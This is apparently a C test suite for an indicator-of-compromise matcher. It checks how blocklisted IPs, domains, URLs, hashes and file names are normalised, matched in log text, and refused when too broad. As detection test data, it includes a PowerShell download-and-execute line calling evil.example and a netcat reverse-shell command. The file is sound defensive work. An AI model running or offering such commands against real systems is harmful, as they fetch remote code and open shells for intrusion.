/* Indicators: forms, canonical values, the guard, what is found and what is not. */
#include "match/indicator.h"

#include <stdio.h>
#include <stdlib.h>

struct desk {
	struct arena arena;
	struct indicator_loader *loader;
	const struct indicators *made;
};

static void open_desk(struct desk *d, bool force)
{
	static const uint8_t seed[16] = { 7, 1, 4 };
	arena_init(&d->arena, 1 << 26, 1 << 28);
	d->loader = indicators_begin(&d->arena, force);
	indicators_seed(d->loader, seed);
	d->made = NULL;
}

static void close_desk(struct desk *d)
{
	indicators_free(d->made);
	arena_done(&d->arena);
}

static const char *add(struct desk *d, const char *file, const char *text)
{
	struct err err = { .code = ERR_NONE };
	const char *form = NULL;
	/* a block of its size, so that ASan sees a read past its end */
	size_t n = strlen(text);
	char *bytes = malloc(n + 1);
	memcpy(bytes, text, n);
	bool good = indicators_add(d->loader, str_from(file), (str){ bytes, (ptrdiff_t)n }, &form, &err);
	free(bytes);
	return good ? form : NULL;
}

/* What the probe finds, as "value value ..", sorted by nothing: in the order of the hits. */
static str found(struct desk *d, enum probe_as as, const char *text, int port)
{
	struct probe_hit hit[32];
	char *copy = strdup(text);
	struct probe p = { as, { copy, (ptrdiff_t)strlen(text) }, port, 77 };
	if (d->made == NULL)
		d->made = indicators_finish(d->loader);
	ptrdiff_t n = indicators_probe(d->made, &p, 1, hit, 32);
	str out = { "", 0 };
	for (ptrdiff_t k = 0; k < n; k++) {
		ASSERT(hit[k].tag == 77 && hit[k].from >= 0 && hit[k].from < hit[k].to &&
		       hit[k].to <= p.text.len);
		out = arena_printf(&d->arena, STR_FMT "%s" STR_FMT, STR_ARG(out), k ? " " : "",
				   STR_ARG(hit[k].what.value));
	}
	free(copy);
	return out;
}

static void expect(struct desk *d, enum probe_as as, const char *text, const char *want)
{
	str got = found(d, as, text, -1);
	if (!str_eq(got, str_from(want)))
		fprintf(stderr, "%s: got '" STR_FMT "', not '%s'\n", text, STR_ARG(got), want);
	ASSERT(str_eq(got, str_from(want)));
}

static void test_plain(void)
{
	struct desk d;
	open_desk(&d, false);
	ASSERT(strcmp(add(&d, "list.txt",
			  "# a comment\r\n\n"
			  "192.0.2.1\tmalware/one\r\n"
			  "::ffff:192.0.2.2\tmapped\n"
			  "2001:DB8:0:0::1\n"
			  "198.51.100.0/24\tnet\n"
			  "2001:db8:5::/48\n"
			  "192.0.2.9:8080\tport\n"
			  "[2001:db8::9]:443\n"
			  "Evil.Example.\tname\n"
			  ".below.example\n"
			  "*.star.example\n"
			  "http://Web.Example:80/a%7eb/./c/../d?q=1#frag\turl\n"
			  "http://192.0.2.77\tserver\n"
			  "host.example/Path/x.php\n"
			  "/drop/me.sh\tpath\n"
			  "Bad@Mail.Example\n"
			  "44D88612FEA8A8F36DE82E1278ABB02F\n"
			  "3395856ce81f2b7382dee72602f798b642f14140\n"
			  "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n"
			  "t13d1516h2_8daaf6152771_b186095e22b6\n"
			  "dropper.exe\n"
			  "evil[.]defanged[.]example\n"
			  "hxxps://de.fanged.example/x\n"
			  "b\xc3\xbc"
			  "cher.example\n"),
		      "plain list") == 0);
	expect(&d, PROBE_IP, "192.0.2.1", "192.0.2.1");
	expect(&d, PROBE_IP, "::ffff:192.0.2.1", "192.0.2.1");
	expect(&d, PROBE_IP, "192.0.2.2", "192.0.2.2");
	expect(&d, PROBE_IP, "2001:db8::1", "2001:db8::1");
	expect(&d, PROBE_DOMAIN, "192.0.2.1.", "192.0.2.1");
	expect(&d, PROBE_IP, "192.0.2.3", "");
	expect(&d, PROBE_IP, "198.51.100.77", "198.51.100.0/24");
	expect(&d, PROBE_IP, "198.51.101.0", "");
	expect(&d, PROBE_IP, "2001:db8:5:ffff::1", "2001:db8:5::/48");
	expect(&d, PROBE_IP, "192.0.2.9", "");
	ASSERT(str_eq(found(&d, PROBE_IP, "192.0.2.9", 8080), S("192.0.2.9:8080")));
	ASSERT(str_eq(found(&d, PROBE_IP, "192.0.2.9", 80), S("")));
	expect(&d, PROBE_ANY, "192.0.2.9:8080", "192.0.2.9:8080");
	ASSERT(str_eq(found(&d, PROBE_IP, "2001:db8::9", 443), S("[2001:db8::9]:443")));
	expect(&d, PROBE_DOMAIN, "EVIL.example", "evil.example");
	expect(&d, PROBE_DOMAIN, "evil.example.", "evil.example");
	expect(&d, PROBE_DOMAIN, "www.evil.example", "");
	expect(&d, PROBE_DOMAIN, "a.b.below.example", "below.example");
	expect(&d, PROBE_DOMAIN, "below.example", "below.example");
	expect(&d, PROBE_DOMAIN, "notbelow.example", "");
	expect(&d, PROBE_DOMAIN, "x.star.example", "star.example");
	expect(&d, PROBE_DOMAIN, "evil.defanged.example", "evil.defanged.example");
	expect(&d, PROBE_DOMAIN,
	       "B\xc3\x9c"
	       "CHER.example",
	       "xn--bcher-kva.example");
	expect(&d, PROBE_DOMAIN, "xn--bcher-kva.example", "xn--bcher-kva.example");
	expect(&d, PROBE_MAIL, "Some One <BAD@mail.example>", "bad@mail.example");
	expect(&d, PROBE_MAIL, "x@evil.example", "evil.example");
	close_desk(&d);
}

static void test_urls(void)
{
	struct desk d;
	open_desk(&d, false);
	ASSERT(add(&d, "list.txt",
		   "http://Web.Example:80/a%7eb/./c/../d?q=1#frag\turl\n"
		   "http://192.0.2.77\tserver\n"
		   "host.example/Path/x.php\n"
		   "/drop/me.sh\tpath\n"
		   "https://de.fanged.example/x\n") != NULL);
	expect(&d, PROBE_URL, "HTTP://user:pw@WEB.example/a~b/d?q=1", "http://web.example/a~b/d?q=1");
	expect(&d, PROBE_URL, "http://web.example/a~b/d?q=2", "");
	expect(&d, PROBE_URL, "https://web.example/a~b/d?q=1", "");
	expect(&d, PROBE_URL, "http://192.0.2.77/anything/at?all", "http://192.0.2.77");
	expect(&d, PROBE_URL, "http://192.0.2.77:81/anything", "");
	expect(&d, PROBE_URL, "http://3221226061/x", "http://192.0.2.77");
	expect(&d, PROBE_URL, "https://host.example:8443/Path/x.php?id=1", "host.example/Path/x.php");
	expect(&d, PROBE_URL, "host.example/Path/x.php", "host.example/Path/x.php");
	expect(&d, PROBE_URL, "https://host.example/path/x.php", "");
	expect(&d, PROBE_URL, "/drop/me.sh?x=1", "/drop/me.sh");
	expect(&d, PROBE_URL, "http://a.example/drop/%6de.sh", "/drop/me.sh");
	expect(&d, PROBE_ANY, "/drop/me.sh", "");
	expect(&d, PROBE_ANY, "https://de.fanged.example/x", "https://de.fanged.example/x");
	close_desk(&d);
}

static void test_hashes(void)
{
	struct desk d;
	open_desk(&d, false);
	ASSERT(add(&d, "list.txt",
		   "44D88612FEA8A8F36DE82E1278ABB02F\n"
		   "3395856ce81f2b7382dee72602f798b642f14140\n"
		   "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n"
		   "t13d1516h2_8daaf6152771_b186095e22b6\n"
		   "dropper.exe\n") != NULL);
	expect(&d, PROBE_HASH, "44d88612fea8a8f36de82e1278abb02f", "44d88612fea8a8f36de82e1278abb02f");
	expect(&d, PROBE_JA3, "44d88612fea8a8f36de82e1278abb02f", "");
	expect(&d, PROBE_HASHES,
	       "SHA1=3395856CE81F2B7382DEE72602F798B642F14140,IMPHASH=44D88612FEA8A8F36DE82E1278ABB02F",
	       "3395856ce81f2b7382dee72602f798b642f14140");
	expect(&d, PROBE_HASHES, "MD5=44D88612FEA8A8F36DE82E1278ABB02F", "44d88612fea8a8f36de82e1278abb02f");
	expect(&d, PROBE_ANY, "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F",
	       "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
	expect(&d, PROBE_JA4, "T13d1516h2_8daaf6152771_b186095e22b6", "t13d1516h2_8daaf6152771_b186095e22b6");
	expect(&d, PROBE_FILE_NAME, "C:\\Users\\x\\Dropper.EXE", "dropper.exe");
	expect(&d, PROBE_FILE_NAME, "/tmp/dropper.exe", "dropper.exe");
	expect(&d, PROBE_FILE_NAME, "dropper.exe.bak", "");
	close_desk(&d);
}

static void test_text(void)
{
	struct desk d;
	open_desk(&d, false);
	ASSERT(add(&d, "list.txt",
		   "http://evil.example/a.ps1\n"
		   "evil.example\n"
		   "203.0.113.5\n"
		   "203.0.113.6:4444\n"
		   "2001:db8::bad\n"
		   "phish@bank.example\n"
		   "/drop.sh\n"
		   "dropper.exe\n"
		   "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n") != NULL);
	expect(&d, PROBE_TEXT,
	       "powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
	       "http://evil.example/a.ps1 evil.example");
	expect(&d, PROBE_TEXT, "connection from 203.0.113.5: refused, then 203.0.113.5.",
	       "203.0.113.5 203.0.113.5");
	expect(&d, PROBE_TEXT, "nc 203.0.113.6:4444 -e sh", "203.0.113.6:4444");
	expect(&d, PROBE_TEXT, "nc 203.0.113.6:444 -e sh", "");
	expect(&d, PROBE_TEXT, "peer [2001:DB8::bad]:22 and 2001:db8::bad", "2001:db8::bad 2001:db8::bad");
	expect(&d, PROBE_TEXT, "from=<phish@bank.example>, nrcpt=1", "phish@bank.example");
	expect(&d, PROBE_TEXT, "GET /drop.sh HTTP/1.1", "/drop.sh");
	expect(&d, PROBE_TEXT, "cat /drop.sh", "");
	expect(&d, PROBE_TEXT, "C:\\Temp\\Dropper.exe -q", "dropper.exe");
	expect(&d, PROBE_TEXT, "SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F x",
	       "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
	expect(&d, PROBE_TEXT, "see EVIL.example.", "evil.example");
	expect(&d, PROBE_TEXT, "ssh -p 22 root@203.0.113.5:/tmp", "203.0.113.5");
	expect(&d, PROBE_TEXT,
	       "open \xe2\x80\x9c"
	       "evil.example\xe2\x80\x9d now",
	       "evil.example");
	expect(&d, PROBE_TEXT, "\xe2\x80\x9chttp://evil.example/a.ps1\xe2\x80\x9d",
	       "http://evil.example/a.ps1 evil.example");
	expect(&d, PROBE_TEXT, "https://a.example/r?u=http://evil.example/a.ps1 x",
	       "http://evil.example/a.ps1 evil.example");
	expect(&d, PROBE_TEXT, "https://a.example,http://evil.example/a.ps1",
	       "http://evil.example/a.ps1 evil.example");
	expect(&d, PROBE_TEXT, "12:34:56 notevil.example evil.example.org", "");
	close_desk(&d);
}

static void test_guard(void)
{
	static const char *const bad[] = {
		".",
		"*",
		"0.0.0.0/0",
		"::/0",
		"com",
		".com",
		"co.uk",
		".com.pk",
		"/",
		"/a",
		"/index.php",
		"10.0.0.0/7",
		"0.0.0.0",
		"127.0.0.1",
		"d41d8cd98f00b204e9800998ecf8427e",
		"00000000000000000000000000000000",
		"cmd.exe",
	};
	for (ptrdiff_t i = 0; i < COUNTOF(bad); i++) {
		struct desk d;
		open_desk(&d, false);
		ASSERT(add(&d, "bad.txt", bad[i]) != NULL);
		const struct indicator_refusal *r = indicators_refused(d.loader);
		if (r == NULL)
			fprintf(stderr, "%s was not refused\n", bad[i]);
		ASSERT(r != NULL && r->next == NULL && r->line == 1 && str_eq(r->value, str_from(bad[i])));
		ASSERT(str_eq(r->file, S("bad.txt")) && r->why.len > 0);
		d.made = indicators_finish(d.loader);
		ASSERT(indicators_counts(d.made).refused == 1 && indicators_counts(d.made).kept == 0);
		close_desk(&d);
	}
	struct desk d;
	open_desk(&d, true);
	ASSERT(add(&d, "forced.txt", ".com\n0.0.0.0/0\n::/0\n/index.php\n") != NULL &&
	       indicators_refused(d.loader) == NULL);
	expect(&d, PROBE_DOMAIN, "www.example.com", "com");
	expect(&d, PROBE_IP, "192.0.2.1", "0.0.0.0/0");
	expect(&d, PROBE_IP, "2001:db8::1", "::/0");
	close_desk(&d);
}

static void test_where_from(void)
{
	struct desk d;
	struct probe_hit hit[4];
	open_desk(&d, false);
	ASSERT(add(&d, "one.txt", "x.example\tfirst\n.y.example\n") != NULL);
	ASSERT(add(&d, "two.txt", "# again\nx.example\tsecond\ny.example\nz.example\n.z.example\twider\n") !=
	       NULL);
	d.made = indicators_finish(d.loader);
	struct indicator_counts c = indicators_counts(d.made);
	ASSERT(c.kept == 3 && c.doubled == 3 && c.refused == 0);
	struct probe p[2] = { { PROBE_DOMAIN, S("x.example"), -1, 1 },
			      { PROBE_DOMAIN, S("www.z.example"), -1, 2 } };
	ASSERT(indicators_probe(d.made, p, 2, hit, 4) == 2);
	ASSERT(hit[0].tag == 1 && str_eq(hit[0].what.label, S("first")) &&
	       str_eq(hit[0].what.source, S("one.txt")));
	ASSERT(hit[0].what.line == 1 && !hit[0].what.below && hit[0].from == 0 && hit[0].to == 9);
	ASSERT(hit[1].tag == 2 && hit[1].what.below && hit[1].what.line == 5 &&
	       str_eq(hit[1].what.label, S("wider")));
	ASSERT(hit[1].from == 4 && hit[1].to == 13);
	ASSERT(indicators_probe(d.made, p, 2, hit, 1) == 1);
	close_desk(&d);
}

int main(void)
{
	test_plain();
	test_urls();
	test_hashes();
	test_text();
	test_guard();
	test_where_from();
	return 0;
}
